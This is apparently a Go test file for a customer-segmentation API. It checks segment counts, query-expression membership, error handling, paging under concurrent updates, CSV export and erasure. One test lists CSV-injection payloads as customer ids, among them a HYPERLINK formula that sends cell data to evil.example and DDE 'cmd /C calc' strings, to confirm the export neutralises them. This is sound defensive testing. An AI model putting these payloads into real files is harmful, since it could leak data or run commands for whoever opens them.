package api_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/segflow/segflow/pkg/api"
	"github.com/segflow/segflow/pkg/event"
	"github.com/segflow/segflow/pkg/profile"
	"github.com/segflow/segflow/pkg/testenv"
)

// profiles reads every customer through the store's own read path.
func (e *env) profiles(t *testing.T, ids []string) map[string]profile.Profile {
	t.Helper()
	ps, err := e.store.Get(context.Background(), T, ids)
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]profile.Profile{}
	for _, p := range ps {
		out[p.Customer] = p
	}
	return out
}

func TestCountsAreTheSegmentsScoresStagesAndTagsOfEveryProfile(t *testing.T) {
	e := start(t, nil, nil)
	e.checkCounts(t, e.population(t, 150, 1))
}

// checkCounts compares GET /v1/counts with counts of the profiles of ids,
// read through e's store.
func (e *env) checkCounts(t *testing.T, ids []string) {
	t.Helper()
	var got api.Counts
	e.get(t, "/v1/counts", &got)
	segments, stages, tags, tiers := map[string]int{}, map[string]int64{}, map[string]int64{}, map[string]int64{}
	var grid [5][5]int
	buyers := 0
	for _, p := range e.profiles(t, ids) {
		stages[string(p.Stage)]++
		tiers[p.Tier]++
		for _, tg := range p.Tags {
			tags[tg]++
		}
		if p.Segment != "" {
			buyers++
			segments[p.Segment]++
			grid[p.RScore-1][p.FScore-1]++
		}
	}
	if got.Buyers != buyers || got.Grid != grid {
		t.Errorf("buyers %d grid %v, want %d %v", got.Buyers, got.Grid, buyers, grid)
	}
	for seg, n := range got.Segments {
		if n != segments[seg] {
			t.Errorf("segment %s: %d, want %d", seg, n, segments[seg])
		}
	}
	if len(got.Segments) != 8 {
		t.Errorf("%d segments reported, want all 8", len(got.Segments))
	}
	for st, n := range stages {
		if got.Stages[st] != n {
			t.Errorf("stage %s: %d, want %d", st, got.Stages[st], n)
		}
	}
	for tg, n := range tags {
		if got.Tags[tg] != n {
			t.Errorf("tag %s: %d, want %d", tg, got.Tags[tg], n)
		}
	}
	for tr, n := range tiers {
		if got.Tiers[tr] != n {
			t.Errorf("tier %s: %d, want %d", tr, got.Tiers[tr], n)
		}
	}
	t.Logf("buyers %d, segments %v, stages %v", buyers, got.Segments, got.Stages)
}

// all pages through q with the given page size and returns every member.
func (e *env) all(t *testing.T, q string, limit int) []string {
	t.Helper()
	return e.allWith(t, q, limit, func(string) {})
}

// allWith pages through q and calls between(cursor) after each page.
func (e *env) allWith(t *testing.T, q string, limit int, between func(cursor string)) []string {
	t.Helper()
	var out []string
	cursor := ""
	for {
		var page api.Members
		e.get(t, fmt.Sprintf("/v1/members?q=%s&limit=%d&cursor=%s", url.QueryEscape(q), limit, url.QueryEscape(cursor)), &page)
		if len(page.Members) > limit {
			t.Fatalf("page of %d, limit %d", len(page.Members), limit)
		}
		out = append(out, page.Members...)
		if page.NextCursor == "" {
			return out
		}
		cursor = page.NextCursor
		between(cursor)
	}
}

func TestMembersOfAnExpressionAreTheProfilesItSelects(t *testing.T) {
	e := start(t, nil, nil)
	ids := e.population(t, 150, 2)
	ps := e.profiles(t, ids)
	for _, tc := range []struct {
		q   string
		sel func(p profile.Profile) bool
	}{
		{"important_value", func(p profile.Profile) bool { return p.Segment == "important_value" }},
		{"important_value AND bought:category:dog AND NOT S3", func(p profile.Profile) bool {
			return p.Segment == "important_value" && slices.Contains(p.Tags, "bought:category:dog") && p.Stage != "S3"
		}},
		{"(general_retain OR important_retain) AND NOT tag:bought:category:cat", func(p profile.Profile) bool {
			return (p.Segment == "general_retain" || p.Segment == "important_retain") && !slices.Contains(p.Tags, "bought:category:cat")
		}},
		{"stage:S3 OR N", func(p profile.Profile) bool { return p.Stage == "S3" || p.Stage == "N" }},
		{"r_score:5 AND f_score:1", func(p profile.Profile) bool { return p.RScore == 5 && p.FScore == 1 }},
		{"tier:member AND NOT big_spender", func(p profile.Profile) bool { return p.Tier == "member" && !slices.Contains(p.Tags, "big_spender") }},
	} {
		var want []string
		for _, c := range ids {
			if tc.sel(ps[c]) {
				want = append(want, c)
			}
		}
		if got := e.all(t, tc.q, 7); !slices.Equal(got, want) {
			t.Errorf("%s: %d members %v\nwant %d %v", tc.q, len(got), got, len(want), want)
		}
		if len(want) == 0 {
			t.Errorf("%s selects nobody: a weak case", tc.q)
		}
	}
	var seg api.Members
	e.get(t, "/v1/segments/general_retain/members?limit=1000", &seg)
	if got := e.all(t, "general_retain", 1000); !slices.Equal(seg.Members, got) || seg.Total != len(got) {
		t.Errorf("segment members %v, expression members %v", seg.Members, got)
	}
	if status, _, _ := e.do(t, "GET", "/v1/segments/nonsense/members", token, nil); status != 404 {
		t.Errorf("unknown segment: %d, want 404", status)
	}
}

func TestMalformedExpressionsAnswer400WithThePosition(t *testing.T) {
	e := start(t, nil, nil)
	for q, pos := range map[string]int{
		"important_value AND AND S3": 20,
		"(a OR b":                    7,
		"":                           0,
		"a NOT b":                    2,
	} {
		status, body, _ := e.do(t, "GET", "/v1/members?q="+url.QueryEscape(q), token, nil)
		var got struct {
			Error    string `json:"error"`
			Position *int   `json:"position"`
		}
		_ = jsonUnmarshal(body, &got)
		if status != 400 || got.Position == nil || *got.Position != pos || got.Error == "" {
			t.Errorf("q=%q: %d %s, want 400 at %d", q, status, body, pos)
		}
	}
	for _, path := range []string{"/v1/members?q=a&limit=0", "/v1/members?q=a&limit=x", "/v1/members?q=r_score:9"} {
		if status, body, _ := e.do(t, "GET", path, token, nil); status != 400 {
			t.Errorf("%s: %d %s, want 400", path, status, body)
		}
	}
}

func TestOversizeExpressionsAnswer400NamingTheLimit(t *testing.T) {
	e := start(t, nil, nil)
	e.apply(t, e.order("x", T.Add(-day(3)), "10.00", "dog"), e.order("y", T.Add(-day(3)), "10.00", "cat"))
	or := func(n int, name string) string { return strings.TrimSuffix(strings.Repeat(name+" OR ", n), " OR ") }
	// At the limit, 64 names, the expression is answered.
	var page api.Members
	e.get(t, "/v1/members?q="+url.QueryEscape(or(64, "bought:category:dog")), &page)
	if !slices.Equal(page.Members, []string{"x"}) {
		t.Errorf("64 names: members %v, want [x]", page.Members)
	}
	for _, tc := range []struct{ name, q, limit string }{
		{"100,000 names in 500 KB", or(100_000, "a"), "4096 bytes"},
		{"65 names", or(65, "a"), "64 names"},
	} {
		status, body, _ := e.do(t, "GET", "/v1/members?q="+url.QueryEscape(tc.q), token, nil)
		if status != 400 || !strings.Contains(string(body), tc.limit) {
			t.Errorf("%s: %d %.200s, want 400 naming the limit %s", tc.name, status, body, tc.limit)
		}
	}
}

func TestPagingIsStableUnderConcurrentUpdates(t *testing.T) {
	e := start(t, nil, nil)
	// Stable members: customers with a dog order, who keep it. Between pages,
	// customers join just before and just after the cursor, and one who
	// joined earlier is erased; a writer also churns concurrently.
	var stable []string
	for i := range 60 {
		c := fmt.Sprintf("s%03d", i)
		stable = append(stable, c)
		e.apply(t, e.order(c, T.Add(-day(i)), "10.00", "dog"))
	}
	var wg sync.WaitGroup
	stop := make(chan struct{})
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			default:
			}
			c := fmt.Sprintf("s%03d~w%d", i%60, i)
			e.apply(t, e.order(c, T.Add(-day(1)), "10.00", "dog"))
			if _, err := e.api.Erase(context.Background(), c, "test"); err != nil {
				t.Error(err)
				return
			}
		}
	}()
	var joined []string
	n := 0
	between := func(cursor string) {
		n++
		before, after := cursor[:len(cursor)-1]+"~"+fmt.Sprint(n), cursor+"~"+fmt.Sprint(n)
		e.apply(t, e.order(before, T.Add(-day(1)), "10.00", "dog"), e.order(after, T.Add(-day(1)), "10.00", "dog"))
		if len(joined) > 0 {
			if _, err := e.api.Erase(context.Background(), joined[0], "test"); err != nil {
				t.Fatal(err)
			}
			joined = joined[1:]
		}
		joined = append(joined, before, after)
	}
	for round := range 4 {
		got := e.allWith(t, "bought:category:dog", 4+round, between)
		if !slices.IsSorted(got) || len(slices.Compact(slices.Clone(got))) != len(got) {
			t.Fatalf("round %d: members not strictly increasing: %v", round, got)
		}
		seen := map[string]int{}
		for _, c := range got {
			seen[c]++
		}
		for _, c := range stable {
			if seen[c] != 1 {
				t.Errorf("round %d: stable member %s listed %d times", round, c, seen[c])
			}
		}
	}
	close(stop)
	wg.Wait()
	if n < 20 {
		t.Fatalf("only %d updates between pages", n)
	}
}

func TestCSVExportListsTheWholeAudienceWithSegmentAndCLV(t *testing.T) {
	e := start(t, nil, nil)
	ids := e.population(t, 40, 3)
	ps := e.profiles(t, ids)
	status, body, h := e.do(t, "GET", "/v1/members?format=csv&q="+url.QueryEscape("NOT prospect"), token, nil)
	if status != 200 || !strings.HasPrefix(h.Get("Content-Type"), "text/csv") {
		t.Fatalf("%d %s", status, h.Get("Content-Type"))
	}
	rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(rows[0], []string{"customer_id", "segment", "clv"}) || len(rows) != len(ids)+1 {
		t.Fatalf("header %v, %d rows for %d customers", rows[0], len(rows)-1, len(ids))
	}
	for i, row := range rows[1:] {
		p := ps[ids[i]]
		if row[0] != ids[i] || row[1] != p.Segment || row[2] != fmt.Sprintf("%d.%02d", p.Lifetime/1_000_000, p.Lifetime%1_000_000/10_000) {
			t.Errorf("row %v, want %s %s %d micros", row, ids[i], p.Segment, p.Lifetime)
		}
	}
	// A CSV page carries the next cursor in a header.
	_, body, h = e.do(t, "GET", "/v1/members?format=csv&limit=10&q=N+OR+NOT+N", token, nil)
	if lines := strings.Count(string(body), "\n"); lines != 11 || h.Get("X-Next-Cursor") != ids[9] {
		t.Errorf("CSV page: %d lines, next %q", lines, h.Get("X-Next-Cursor"))
	}
}

func TestCSVExportNeutralisesCellsASpreadsheetWouldReadAsFormulas(t *testing.T) {
	e := start(t, nil, nil)
	// Customer ids as a hostile client could send them, and the cell a
	// spreadsheet must read (OWASP, CSV Injection): a single quote before a
	// cell that begins a formula, also after leading spaces, line breaks or
	// quotes; a formula after a separator inside a cell stays inside the
	// quoted cell.
	cases := []struct{ id, cell string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"open")`, `'=HYPERLINK("http://evil.example/?"&A1,"open")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\tplain", "'\tplain"},
		{"  =1+1", "'  =1+1"},
		{"\n-1+1", "'\n-1+1"},
		{`"=1+1`, `'"=1+1`},
		{"'@A1", "''@A1"},
		{`=1+2";=1+2`, `'=1+2";=1+2`},
		{"a;=1+1", "a;=1+1"},
		{"a,=1+1", "a,=1+1"},
		{"a\t=1+1", "a\t=1+1"},
		{"cust-1", "cust-1"},
		{"x@example.com", "x@example.com"},
	}
	want := map[string]string{}
	for _, tc := range cases {
		e.apply(t, e.order(tc.id, T.Add(-day(3)), "10.00", "dog"))
		want[tc.id] = tc.cell
	}
	check := func(path string) map[string]bool {
		t.Helper()
		status, body, _ := e.do(t, "GET", path, token, nil)
		if status != 200 {
			t.Fatalf("%s: %d %s", path, status, body)
		}
		// However a spreadsheet splits the rows, no cell begins a formula.
		for _, sep := range []rune{',', ';', '\t'} {
			r := csv.NewReader(strings.NewReader(string(body)))
			r.Comma, r.LazyQuotes, r.FieldsPerRecord = sep, true, -1
			rows, err := r.ReadAll()
			if err != nil {
				t.Fatalf("%s split on %q: %v", path, sep, err)
			}
			for _, row := range rows {
				for _, cell := range row {
					if c := strings.TrimLeft(cell, " \r\n\""); c != "" && strings.ContainsAny(c[:1], "=+-@\t") {
						t.Errorf("%s split on %q: cell %q begins a formula", path, sep, cell)
					}
				}
			}
		}
		rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		seen := map[string]bool{}
		for _, row := range rows[1:] {
			seen[row[0]] = true
		}
		return seen
	}
	inAll := check("/v1/members?format=csv&q=" + url.QueryEscape("bought:category:dog"))
	inSegments := map[string]bool{}
	for _, seg := range []string{"important_value", "important_develop", "important_retain", "important_keep", "general_value", "general_develop", "general_retain", "general_keep"} {
		for cell := range check("/v1/segments/" + seg + "/members?format=csv") {
			inSegments[cell] = true
		}
	}
	for _, tc := range cases {
		if !inAll[tc.cell] || !inSegments[tc.cell] {
			t.Errorf("id %q: no cell %q (audience %v, segments %v)", tc.id, tc.cell, inAll[tc.cell], inSegments[tc.cell])
		}
	}
	if len(inAll) != len(cases) || len(inSegments) != len(cases) {
		t.Errorf("%d cells in the audience, %d in the segments, want %d", len(inAll), len(inSegments), len(cases))
	}
}

func TestMembersLeaveTheAudienceWhenErased(t *testing.T) {
	e := start(t, nil, nil)
	e.apply(t, e.order("x", T.Add(-day(3)), "10.00", "dog"), e.order("y", T.Add(-day(3)), "10.00", "dog"),
		testenv.Event(e.id(), event.ProductViewed, "z", T.Add(-day(1)), `{"product":{"sku":"q","category":"dog"}}`))
	if _, err := e.api.Erase(context.Background(), "x", "test"); err != nil {
		t.Fatal(err)
	}
	if got := e.all(t, "bought:category:dog", 10); !slices.Equal(got, []string{"y"}) {
		t.Errorf("after erasing x: %v", got)
	}
}

func TestAnUnknownNameAnswers400NamingIt(t *testing.T) {
	e := start(t, nil, nil)
	e.population(t, 20, 3)
	for _, q := range []string{"bogus_name", "important_value AND NOT bogus_name", "tag:bogus_name", "tier:bogus_name"} {
		status, body, _ := e.do(t, "GET", "/v1/members?q="+url.QueryEscape(q), token, nil)
		if status != 400 || !strings.Contains(string(body), "bogus_name") {
			t.Errorf("q=%q: %d %s, want 400 naming bogus_name", q, status, body)
		}
		if status, _, _ := e.do(t, "GET", "/v1/members?format=csv&q="+url.QueryEscape(q), token, nil); status != 400 {
			t.Errorf("q=%q as CSV: %d, want 400", q, status)
		}
	}
	// Names that exist answer, with no member if nobody holds them now.
	for _, q := range []string{"tier:member", "member", "bought:category:dog", "important_value", "S3", "r_score:5"} {
		if status, body, _ := e.do(t, "GET", "/v1/members?q="+url.QueryEscape(q), token, nil); status != 200 {
			t.Errorf("q=%q: %d %s, want 200", q, status, body)
		}
	}
}
